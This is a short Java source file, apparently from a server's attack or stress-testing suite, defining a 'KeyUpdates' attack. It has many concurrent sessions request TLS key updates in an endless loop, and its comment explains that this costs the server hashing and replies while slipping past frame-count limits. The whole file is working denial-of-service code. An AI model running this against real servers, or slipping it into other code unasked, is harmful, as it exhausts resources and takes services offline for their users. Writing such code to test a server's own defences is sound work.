package io.landline.attack;

/// Asks for new keys of TLS without end (RFC 8446 §4.6.3). Each request costs some hashes and an answer, and is no
/// frame, so that no bound of frames sees it.
record KeyUpdates(int people) implements Attack {
    @Override
    public void run(Target target, Runnable begun) throws InterruptedException {
        Crowd.run(target, people, begun, session -> {
            while (session.isOpen()) session.updateKeys();
        });
    }
}
